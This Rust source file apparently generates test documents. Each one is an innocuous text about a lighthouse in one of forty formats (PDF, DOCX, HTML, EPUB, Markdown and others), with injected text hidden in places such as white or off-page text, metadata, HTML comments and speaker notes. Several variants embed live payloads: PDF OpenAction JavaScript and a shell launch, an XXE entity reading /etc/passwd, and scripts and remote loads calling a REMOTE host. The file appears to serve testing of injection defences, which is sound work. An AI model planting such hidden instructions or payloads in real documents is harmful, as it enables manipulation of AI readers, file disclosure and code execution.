//! Where attacks hide: documents of every format that say the same, with something else besides.

use document_maker::office::{self, Part, escaped, heading, item, paragraph, table};
use document_maker::{Face, Leaf, Pdf};

use super::payloads::REMOTE;

/// What every document says.
pub(super) const TITLE: &str = "The lighthouse of Varnholm";
pub(super) const HONEST: [&str; 3] = [
    "The lighthouse of Varnholm was built in 1871 by the engineer Ida Brandt.",
    "Its lamp burns rapeseed oil and can be seen from ships that are 28 kilometres away.",
    "Every four hours the keeper winds the clockwork that turns the lens.",
];

/// A place for an attack: its name, the format's ending, and how to make the document with an attack and without.
pub(super) struct Place {
    pub(super) name: &'static str,
    pub(super) ending: &'static str,
    pub(super) make: fn(Option<&str>) -> Vec<u8>,
}

/// All places.
pub(super) const PLACES: [Place; 40] = [
    place("paragraph", "pdf", |attack| pdf(attack, |leaf, text| lines(leaf, 11.0, "", text))),
    place("white text", "pdf", |attack| pdf(attack, |leaf, text| lines(leaf, 11.0, "1 1 1 rg", text))),
    place("tiny text", "pdf", |attack| pdf(attack, |leaf, text| leaf.line(72.0, 400.0, 0.4, Face::Sans, text))),
    place("beside the page", "pdf", |attack| {
        pdf(attack, |leaf, text| leaf.line(-900.0, 400.0, 11.0, Face::Sans, text))
    }),
    place("below the page", "pdf", |attack| pdf(attack, |leaf, text| leaf.line(72.0, 2000.0, 11.0, Face::Sans, text))),
    place("text that is not drawn", "pdf", |attack| pdf(attack, |leaf, text| lines(leaf, 11.0, "3 Tr", text))),
    place("covered text", "pdf", |attack| {
        pdf(attack, |leaf, text| {
            lines(leaf, 11.0, "", text);
            leaf.fill(60.0, 395.0, 500.0, 80.0, 0.9);
        })
    }),
    place("heading", "pdf", |attack| pdf(attack, |leaf, text| leaf.line(72.0, 400.0, 18.0, Face::SansBold, text))),
    place("table", "pdf", |attack| {
        pdf(attack, |leaf, text| {
            leaf.table(72.0, 400.0, &[120.0, 300.0], &[&["Key", "Value"], &["note", text]]);
        })
    }),
    place("title of the file", "pdf", |attack| with_pdf(attack, Pdf::titled)),
    place("metadata", "pdf", |attack| {
        with_pdf(attack, |pdf, text| {
            pdf.described("Subject", text).described("Keywords", text).described("Author", text)
        })
    }),
    place("table of contents", "pdf", |attack| with_pdf(attack, |pdf, text| pdf.entry(text, 1))),
    place("page label", "pdf", |attack| {
        with_pdf(attack, |pdf, text| pdf.labelled(&format!("0 << /P ({}) >>", text.replace(['(', ')', '\\'], " "))))
    }),
    place("address to open", "pdf", |attack| {
        with_pdf(attack, |pdf, _| pdf.catalog(&format!(" /OpenAction << /S /URI /URI ({REMOTE}) >>")))
    }),
    place("script", "pdf", |attack| {
        let script = format!("app.launchURL\\('{REMOTE}'\\); this.submitForm\\('{REMOTE}'\\);");
        with_pdf(attack, |pdf, _| pdf.catalog(&format!(" /OpenAction << /S /JavaScript /JS ({script}) >>")))
    }),
    place("program to start", "pdf", |attack| {
        with_pdf(attack, |pdf, _| pdf.catalog(" /OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"))
    }),
    place("paragraph", "docx", |attack| docx(attack, |text| office::docx_paragraph("", text))),
    place("white text", "docx", |attack| docx(attack, |text| run("<w:color w:val='FFFFFF'/>", text))),
    place("hidden text", "docx", |attack| docx(attack, |text| run("<w:vanish/>", text))),
    place("tiny text", "docx", |attack| docx(attack, |text| run("<w:sz w:val='1'/>", text))),
    place("picture's description", "docx", |attack| {
        docx(attack, |text| {
            format!(
                "<w:p><w:r><w:drawing><wp:docPr id='1' name='x' descr=\"{}\"/></w:drawing></w:r></w:p>",
                escaped(text)
            )
        })
    }),
    place("field", "docx", |attack| {
        docx(attack, |_| format!("<w:p><w:r><w:instrText>INCLUDEPICTURE \"{REMOTE}\" \\d</w:instrText></w:r></w:p>"))
    }),
    place("table", "docx", |attack| {
        docx(attack, |text| office::docx_body(&[heading(1, "Notes"), table(&[&["Key", "Value"], &["note", text]])]))
    }),
    place("title of the file", "docx", |attack| office::docx(attack.unwrap_or(TITLE), &parts(None, paragraph))),
    place("comment", "html", |attack| html(attack, |text| format!("<!-- {} -->", text.replace("--", "")))),
    place("hidden element", "html", |attack| {
        html(attack, |text| format!("<div style='display:none' aria-hidden=true hidden><p>{}</p></div>", escaped(text)))
    }),
    place("script", "html", |attack| {
        html(attack, |text| format!("<script>fetch('{REMOTE}'); document.write({text:?})</script>"))
    }),
    place("remote parts", "html", |attack| {
        html(attack, |text| {
            let text = escaped(text);
            format!(
                "<img src='{REMOTE}' alt=\"{text}\"><iframe src='{REMOTE}'></iframe><link rel=stylesheet href='{REMOTE}'>\
                 <object data='{REMOTE}'></object><video src='{REMOTE}' poster='{REMOTE}'></video><base href='{REMOTE}'>"
            )
        })
    }),
    place("refresh", "html", |attack| html(attack, |_| format!("<meta http-equiv=refresh content='0;url={REMOTE}'>"))),
    place("description", "html", |attack| {
        html(attack, |text| format!("<p title=\"{0}\" aria-label=\"{0}\">Drawn in 1902.</p>", escaped(text)))
    }),
    place("caption", "html", |attack| {
        html(attack, |text| format!("<figure><img src='{REMOTE}'><figcaption>{}</figcaption></figure>", escaped(text)))
    }),
    place("entity of another file", "xhtml", |attack| {
        let head = "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
        let body = office::html_body(&parts(None, paragraph));
        let more = attack.map_or("", |_| "<p>&x;</p>");
        format!("{head}<html><head><title>{TITLE}</title></head><body>{body}{more}</body></html>").into_bytes()
    }),
    place("title of the book", "epub", |attack| {
        office::epub(attack.unwrap_or(TITLE), &[(TITLE, parts(None, paragraph))])
    }),
    place("hidden element", "epub", |attack| {
        let hidden = |text| format!("<p style='display:none'>{}</p><script>fetch('{REMOTE}')</script>", escaped(text));
        let more = attack.map(hidden).unwrap_or_default();
        office::epub_of(&(office::html_body(&parts(None, paragraph)) + &more))
    }),
    place("note", "epub", |attack| {
        let note = |text| format!("<aside epub:type='footnote'><p>{}</p></aside>", escaped(text));
        office::epub_of(&(office::html_body(&parts(None, paragraph)) + &attack.map(note).unwrap_or_default()))
    }),
    place("notes of the speaker", "pptx", |attack| {
        office::pptx(TITLE, &[(TITLE, parts(None, paragraph), attack.unwrap_or_default())])
    }),
    place("item", "odt", |attack| office::odt(TITLE, &parts(attack, item))),
    place("heading", "md", |attack| markdown(attack, |text| format!("## {}", text.replace('\n', " ")))),
    place("code", "md", |attack| markdown(attack, |text| format!("```sh\n{text}\n```"))),
    place("remote picture", "md", |attack| {
        markdown(attack, |text| format!("![{}]({REMOTE})\n\n[link]: {REMOTE}\n\n[link]", text.replace('\n', " ")))
    }),
];

const fn place(name: &'static str, ending: &'static str, make: fn(Option<&str>) -> Vec<u8>) -> Place {
    Place { name, ending, make }
}

fn leaf() -> Leaf {
    let mut leaf = Leaf::default();
    leaf.line(72.0, 60.0, 18.0, Face::SansBold, TITLE);
    for (said, top) in HONEST.iter().zip([110.0, 140.0, 170.0]) {
        leaf.line(72.0, top, 11.0, Face::Sans, said);
    }
    leaf
}

fn pdf(attack: Option<&str>, add: fn(&mut Leaf, &str)) -> Vec<u8> {
    let mut leaf = leaf();
    if let Some(text) = attack {
        add(&mut leaf, &text.replace('\n', " "));
    }
    Pdf::new().titled(TITLE).leaf(leaf).bytes()
}

fn with_pdf(attack: Option<&str>, add: impl Fn(Pdf, &str) -> Pdf) -> Vec<u8> {
    let pdf = Pdf::new().titled(TITLE).leaf(leaf());
    attack.map_or_else(|| pdf.clone(), |text| add(pdf.clone(), text)).bytes()
}

/// Lines further down on the page, in a state of their own.
fn lines(leaf: &mut Leaf, size: f32, state: &str, text: &str) {
    leaf.content.extend(format!("q {state}\n").into_bytes());
    let wrapped = Face::Sans.wrapped(text, 460.0, size);
    leaf.lines(72.0, 400.0, size, 13.5, Face::Sans, &wrapped);
    leaf.content.extend(b"Q\n");
}

fn parts(attack: Option<&str>, as_part: fn(&str) -> Part) -> Vec<Part> {
    let honest = HONEST.iter().map(|said| paragraph(said));
    std::iter::once(heading(1, TITLE)).chain(honest).chain(attack.map(as_part)).collect()
}

fn docx(attack: Option<&str>, more: impl Fn(&str) -> String) -> Vec<u8> {
    office::docx_of(TITLE, &(office::docx_body(&parts(None, paragraph)) + &attack.map(more).unwrap_or_default()))
}

fn run(properties: &str, text: &str) -> String {
    format!("<w:p><w:r><w:rPr>{properties}</w:rPr><w:t>{}</w:t></w:r></w:p>", escaped(text))
}

fn html(attack: Option<&str>, more: impl Fn(&str) -> String) -> Vec<u8> {
    let body = office::html_body(&parts(None, paragraph)) + &attack.map(more).unwrap_or_default();
    format!("<!DOCTYPE html><html><head><title>{TITLE}</title></head><body>{body}</body></html>").into_bytes()
}

pub(super) fn markdown(attack: Option<&str>, more: impl Fn(&str) -> String) -> Vec<u8> {
    let more = attack.map(more).unwrap_or_default();
    format!("# {TITLE}\n\n{}\n\n{more}\n", HONEST.join("\n\n")).into_bytes()
}
